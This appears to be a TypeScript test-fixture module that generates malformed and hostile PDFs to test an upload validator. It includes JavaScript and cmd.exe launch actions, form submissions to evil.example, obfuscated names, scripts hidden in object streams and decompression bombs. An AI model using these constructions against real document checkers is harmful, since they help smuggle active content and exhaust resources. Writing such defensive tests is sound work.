import { deflateSync } from "node:zlib";
import type { UploadProblem } from "@/lib/contract/vcs";

/** A file made to deceive, and what must be said of it; `null`: it only looks odd and must be taken. */
export interface HostileFile {
  name: string;
  bytes: Buffer;
  problem: UploadProblem | null;
}

interface PdfParts {
  /** Entries of the catalogue beside its type and pages. */
  catalog?: string;
  /** Further objects, from number 10 on. */
  objects?: (string | Buffer)[];
  trailer?: string;
  header?: string;
  end?: string;
  padding?: number;
}

/** A PDF of one page, written by hand so that every byte of it is ours. */
export function pdfOf({
  catalog = "",
  objects = [],
  trailer = "",
  header = "%PDF-1.7\n",
  end = "%%EOF\n",
  padding = 0,
}: PdfParts = {}): Buffer {
  const bodies: (string | Buffer)[] = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    Buffer.concat([
      Buffer.from(`<< /Length ${padding} >>\nstream\n`),
      Buffer.alloc(padding, 120),
      Buffer.from("\nendstream"),
    ]),
  ];
  const numbered = [
    ...bodies.map((body, index) => [index + 1, body] as const),
    ...objects.map((body, index) => [index + 10, body] as const),
  ];
  const parts = numbered.map(([number, body]) =>
    Buffer.concat([Buffer.from(`${number} 0 obj\n`), Buffer.from(body as string), Buffer.from("\nendobj\n")]),
  );
  const whole = Buffer.concat([Buffer.from(header, "latin1"), ...parts]);
  return Buffer.concat([
    whole,
    Buffer.from(
      `xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 20 /Root 1 0 R ${trailer} >>\nstartxref\n${whole.length}\n${end}`,
      "latin1",
    ),
  ]);
}

/** Objects packed in an object stream: names in them do not stand in the file. */
export function packed(
  objects: Record<number, string>,
  change: { filter?: string; bytes?: Buffer; extra?: string } = {},
): Buffer {
  const texts = Object.values(objects);
  let offset = 0;
  const pairs = Object.keys(objects).map((number, index) => {
    const pair = `${number} ${offset}`;
    offset += (texts[index]?.length ?? 0) + 1;
    return pair;
  });
  const head = `${pairs.join(" ")} `;
  const plain = Buffer.from(head + texts.join(" "), "latin1");
  const {
    filter = "/Filter /FlateDecode",
    bytes = filter.includes("Flate") ? deflateSync(plain) : plain,
    extra = "",
  } = change;
  const dictionary = `<< /Type /ObjStm /N ${texts.length} /First ${head.length} /Length ${bytes.length} ${filter} ${extra} >>\nstream\n`;
  return Buffer.concat([Buffer.from(dictionary), bytes, Buffer.from("\nendstream")]);
}

const SCRIPT = "<< /S /JavaScript /JS (app.alert(1)) >>";
const ADDRESS = "<< /S /URI /URI (https://evil.example/) >>";

function archive(): Buffer {
  return Buffer.concat([Buffer.from("PK\u0003\u0004", "latin1"), Buffer.from("word/document.xml"), Buffer.alloc(400)]);
}

function notPdfs(): HostileFile[] {
  const text = (name: string, content: string, problem: UploadProblem = "not_a_pdf") => ({
    name,
    bytes: Buffer.from(content, "latin1"),
    problem,
  });
  return [
    { name: "nothing at all", bytes: Buffer.alloc(0), problem: "empty_file" },
    { name: "a Word file called .pdf", bytes: archive(), problem: "office_file" },
    {
      name: "an old Word file called .pdf",
      bytes: Buffer.from("d0cf11e0a1b11ae1000000", "hex"),
      problem: "office_file",
    },
    { name: "an empty archive", bytes: Buffer.from("504b0506000000000000", "hex"), problem: "office_file" },
    { name: "a page of HTML", bytes: Buffer.from("<!DOCTYPE html><script>1</script>"), problem: "not_a_pdf" },
    { name: "a PNG", bytes: Buffer.from("89504e470d0a1a0a", "hex"), problem: "not_a_pdf" },
    { name: "a program", bytes: Buffer.from("4d5a90000300", "hex"), problem: "not_a_pdf" },
    text("one byte", "%"),
    text("the magic bytes without a version", "%PDF-"),
    text("another kind of document", "%!PS-Adobe-3.0\n"),
    text("a PDF behind a page of HTML", `<html>${pdfOf().toString("latin1")}`),
    text("a PDF behind a program", `MZ\u0000\u0000${pdfOf().toString("latin1")}`),
    {
      name: "a PDF in UTF-16",
      bytes: Buffer.from(`\ufeff${pdfOf().toString("latin1")}`, "utf16le"),
      problem: "not_a_pdf",
    },
    { name: "zeros", bytes: Buffer.alloc(5_000), problem: "not_a_pdf" },
    text("lower-case magic bytes", pdfOf().toString("latin1").replace("%PDF", "%pdf")),
  ];
}

function broken(): HostileFile[] {
  const whole = pdfOf({ padding: 5_000 });
  return [
    { name: "cut in the middle", bytes: whole.subarray(0, 2_000), problem: "truncated" },
    { name: "cut one byte before its end", bytes: whole.subarray(0, whole.length - 2), problem: "truncated" },
    { name: "without its end", bytes: pdfOf({ end: "" }), problem: "truncated" },
    {
      name: "with its end in the middle",
      bytes: Buffer.concat([whole, Buffer.alloc(6_000, 65)]),
      problem: "truncated",
    },
    {
      name: "with a second file behind it",
      bytes: Buffer.concat([whole, archive(), Buffer.from("PK\u0005\u0006", "latin1"), Buffer.alloc(18)]),
      problem: "office_file",
    },
    {
      name: "with only a head and an end",
      bytes: Buffer.from("%PDF-1.7\nstartxref\n0\n%%EOF\n"),
      problem: "truncated",
    },
    {
      name: "without startxref",
      bytes: Buffer.from(pdfOf().toString("latin1").replace("startxref", "startxxxx"), "latin1"),
      problem: "truncated",
    },
    { name: "one byte over ten megabytes", bytes: pdfOf({ padding: 10 * 1024 * 1024 }), problem: "too_large" },
    { name: "eleven megabytes", bytes: pdfOf({ padding: 11 * 1024 * 1024 }), problem: "too_large" },
  ];
}

function encrypted(): HostileFile[] {
  const locked = "<< /Filter /Standard /V 2 /R 3 /O (x) /U (y) /P -4 >>";
  return [
    { name: "encrypted", bytes: pdfOf({ objects: [locked], trailer: "/Encrypt 10 0 R" }), problem: "encrypted" },
    { name: "encrypted in place", bytes: pdfOf({ trailer: `/Encrypt ${locked}` }), problem: "encrypted" },
    { name: "encrypted under a disguised name", bytes: pdfOf({ trailer: "/E#6ecrypt 10 0 R" }), problem: "encrypted" },
    {
      name: "encrypted, told by a cross-reference stream",
      bytes: pdfOf({ objects: ["<< /Type /XRef /Encrypt 11 0 R /Length 0 >>\nstream\n\nendstream"] }),
      problem: "encrypted",
    },
  ];
}

function active(): HostileFile[] {
  const made = (name: string, parts: PdfParts, problem: UploadProblem = "active_content") => ({
    name,
    bytes: pdfOf(parts),
    problem,
  });
  return [
    made("a script that runs on opening", { catalog: `/OpenAction ${SCRIPT}` }),
    made("a script in an object of its own", { catalog: "/OpenAction 10 0 R", objects: [SCRIPT] }),
    made("a script in the tree of names", {
      catalog: "/Names << /JavaScript << /Names [(a) 10 0 R] >> >>",
      objects: [SCRIPT],
    }),
    made("a script on a page", { objects: [`<< /Type /Page /AA << /O ${SCRIPT} >> >>`] }),
    made("a script on a button", { objects: [`<< /Subtype /Widget /A ${SCRIPT} >>`] }),
    made("a script under a disguised name", { catalog: "/OpenAction << /S /J#61vaScript /JS (1) >>" }),
    made("a script under a name all disguised", {
      catalog: "/OpenAction << /S /#4a#61#76#61#53#63#72#69#70#74 /JS (1) >>",
    }),
    made("a script packed away", { objects: [packed({ 11: SCRIPT })] }),
    made("a script packed away under a disguised name", { objects: [packed({ 11: "<< /S /J#61vaScript >>" })] }),
    made("a script in an unpacked object stream", { objects: [packed({ 11: SCRIPT }, { filter: "" })] }),
    made("a script in the second object stream", { objects: [packed({ 11: "<< >>" }), packed({ 12: SCRIPT })] }),
    made("a script behind four megabytes", { padding: 4 * 1024 * 1024, objects: [SCRIPT] }),
    made("a program to start", { catalog: "/OpenAction << /S /Launch /F (cmd.exe) >>" }),
    made("a program to start, packed away", { objects: [packed({ 11: "<< /S /Launch /Win << /F (cmd.exe) >> >>" })] }),
    made("an address that opens by itself", { catalog: `/OpenAction ${ADDRESS}` }),
    made("an address that opens by itself, elsewhere in the file", {
      catalog: "/OpenAction 10 0 R",
      objects: [ADDRESS],
    }),
    made("an address that opens by itself, packed away", {
      catalog: "/OpenAction 11 0 R",
      objects: [packed({ 11: ADDRESS })],
    }),
    made("a form that sends itself", { objects: ["<< /S /SubmitForm /F (https://evil.example/) >>"] }),
    made("a form of the other kind", { catalog: "/AcroForm << /XFA 10 0 R >>" }),
    made("data that comes in from elsewhere", { objects: ["<< /S /ImportData /F (x) >>"] }),
    made("a film", { objects: ["<< /Subtype /RichMedia >>"] }),
    made("a jump into a file inside", { objects: ["<< /S /GoToE >>"] }),
  ];
}

function inside(): HostileFile[] {
  const made = (name: string, parts: PdfParts, problem: UploadProblem = "embedded_file") => ({
    name,
    bytes: pdfOf(parts),
    problem,
  });
  const bomb = deflateSync(Buffer.alloc(64 * 1024 * 1024));
  return [
    made("a file inside", { objects: ["<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream"] }),
    made("files inside, by name", { catalog: "/Names << /EmbeddedFiles << /Names [] >> >>" }),
    made("a file pinned to a page", { objects: ["<< /Subtype /FileAttachment >>"] }),
    made("a file inside, packed away", { objects: [packed({ 11: "<< /Type /EmbeddedFile >>" })] }),
    made("a bomb in an object stream", { objects: [packed({ 11: "" }, { bytes: bomb })] }, "too_complex"),
    made(
      "twenty bombs that each fit",
      {
        objects: Array.from({ length: 20 }, () =>
          packed({ 11: "" }, { bytes: deflateSync(Buffer.alloc(7 * 1024 * 1024)) }),
        ),
      },
      "too_complex",
    ),
    made(
      "objects packed in a way nobody uses",
      { objects: [packed({ 11: SCRIPT }, { filter: "/Filter [/ASCIIHexDecode /FlateDecode]" })] },
      "too_complex",
    ),
    made(
      "objects packed with a predictor",
      { objects: [packed({ 11: SCRIPT }, { extra: "/DecodeParms << /Predictor 12 >>" })] },
      "too_complex",
    ),
    made(
      "objects that cannot be unpacked",
      { objects: [packed({ 11: "" }, { bytes: Buffer.from("not packed at all") })] },
      "too_complex",
    ),
    made(
      "an object stream under a disguised name",
      { objects: [Buffer.from(packed({ 11: SCRIPT }).toString("latin1").replace("/ObjStm", "/Obj#53tm"), "latin1")] },
      "too_complex",
    ),
    made(
      "an object stream that never ends",
      {
        objects: [Buffer.from(packed({ 11: "<< >>" }).toString("latin1").replace("endstream", "endstrewn"), "latin1")],
      },
      "too_complex",
    ),
  ];
}

function harmless(): HostileFile[] {
  const made = (name: string, parts: PdfParts) => ({ name, bytes: pdfOf(parts), problem: null });
  return [
    made("a plain one", {}),
    made("one that opens at a page", { catalog: "/OpenAction [3 0 R /Fit]" }),
    made("one that opens at a page, by an object", {
      catalog: "/OpenAction 10 0 R",
      objects: ["<< /S /GoTo /D [3 0 R /Fit] >>", `<< /Subtype /Link /A ${ADDRESS} >>`],
    }),
    made("one with a link", { objects: [`<< /Subtype /Link /A ${ADDRESS} >>`] }),
    made("one with packed objects", {
      objects: [packed({ 11: "<< /Type /Font >>", 12: `<< /Subtype /Link /A ${ADDRESS} >>` })],
    }),
    made("one with a mark in front", { header: "\u00ef\u00bb\u00bf%PDF-1.4\n" }),
    made("one with blanks behind", { end: "%%EOF\r\n\r\n   \n" }),
    made("one that says it is not encrypted inside", { objects: ["<< /EncryptMetadata false >>"] }),
    made("nearly ten megabytes", { padding: 10 * 1024 * 1024 - 2_000 }),
  ];
}

/** Every file, made anew: nothing is copied from elsewhere. */
export function hostileFiles(): HostileFile[] {
  return [...notPdfs(), ...broken(), ...encrypted(), ...active(), ...inside(), ...harmless()];
}
